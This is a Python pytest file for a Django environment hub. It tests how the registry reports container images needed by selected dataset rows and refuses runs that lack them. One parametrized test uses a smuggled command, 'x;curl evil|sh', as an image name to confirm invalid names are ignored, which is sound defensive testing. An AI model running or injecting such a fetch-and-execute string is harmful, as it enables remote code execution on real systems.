"""Images that rows name for their sandboxes are needs of the version, and of a run that chooses those rows."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from envhub.protocol.registry.needs import CheckSettings
from envhub.protocol.visibility import Visibility
from pytest_django import Settings

from hub.accounts.models import User
from hub.core.errors import Conflict
from hub.core.needs import Borrower
from hub.registry.models import Version
from hub.registry.readiness import require_runnable
from hub.registry.row_images import ChosenRows, images_needed
from tests.factories.accounts import make_user
from tests.factories.images import create_image
from tests.factories.registry import create_ready_version
from tests.hub.registry.api_client import call

pytestmark = pytest.mark.django_db
ROWS = {"hub/base": 0, "python:3.11-slim": 0, "swe/a:1": 1, "swe/b:1": 3, "swe/c:1": 9}


@pytest.fixture
def ada() -> User:
    return make_user("ada")


@pytest.fixture
def version(ada: User) -> Version:
    version = create_ready_version(ada)
    version.describe = {"env_class": "E", "splits": {"eval": {"size": 10, "images": ROWS}}}
    version.save(update_fields=["describe"])
    return version


def start(version: Version, user: User, number: int = -1, **given: Any) -> None:
    rows = ChosenRows("eval", number)
    require_runnable(version, CheckSettings(**given), Borrower(user.owner.pk, user), rows=rows)


def test_the_version_names_what_it_lacks_and_how_to_add_it(version: Version, ada: User) -> None:
    create_image(ada.owner, "swe/b:1")
    view = call(None, "get", "environments/ada/tiny-env/versions/0.1.0").json()
    assert [(need["name"], need["detail"]) for need in view["needs"]] == [
        ("swe/a:1", "the first example that needs it is 1"),
        ("swe/c:1", "the first example that needs it is 9"),
    ]
    overview = Client().get(reverse("environment", args=["ada", "tiny-env"])).content.decode()
    assert "Some examples cannot run yet. They need:" in overview
    page = Client().get(reverse("version", args=["ada", "tiny-env", "0.1.0"])).content.decode()
    assert "hub image add swe/a:1 TAR --owner ada" in page


def test_a_run_is_refused_before_it_begins(version: Version, ada: User) -> None:
    with pytest.raises(Conflict, match=r"need images that cannot be had: swe/a:1, swe/b:1, swe/c:1") as refused:
        start(version, ada)
    assert refused.value.code == "needs_unmet"
    assert "`hub image add swe/a:1 TAR`" in refused.value.hint
    assert "the first needs none of them" in refused.value.hint


@pytest.mark.parametrize("name", ["x;curl evil|sh #\x1b[2J", "", "\x7f", "MyImage", "--help"])
def test_what_can_be_no_image_is_neither_named_nor_in_the_way(version: Version, ada: User, name: str) -> None:
    version.describe["splits"]["eval"]["images"] = {name: 0}
    version.save(update_fields=["describe"])
    start(version, ada)
    assert call(None, "get", "environments/ada/tiny-env/versions/0.1.0").json()["needs"] == []


def test_only_the_images_of_chosen_rows_count(version: Version, ada: User) -> None:
    start(version, ada, 1)
    create_image(ada.owner, "swe/a:1")
    start(version, ada, 3)
    with pytest.raises(Conflict, match=r"cannot be had: swe/b:1"):
        start(version, ada, 4)


def test_other_arguments_may_choose_other_rows(version: Version, ada: User) -> None:
    start(version, ada, env_args={"subset": "small"})


def test_an_image_of_a_registry_that_the_operator_allows_is_not_lacking(version: Version, settings: Settings) -> None:
    settings.HUB = settings.HUB.model_copy(update={"image_registries": ["docker.io/swe"]})
    assert images_needed(version) == ()


def test_the_authors_private_image_is_lacking_for_others(version: Version, ada: User) -> None:
    image = create_image(ada.owner, "swe/a:1")
    bob = make_user("bob")
    start(version, ada, 2)
    with pytest.raises(Conflict, match=r"cannot be had: swe/a:1"):
        start(version, bob, 2)
    image.visibility = Visibility.PUBLIC.value
    image.save(update_fields=["visibility"])
    start(version, bob, 2)
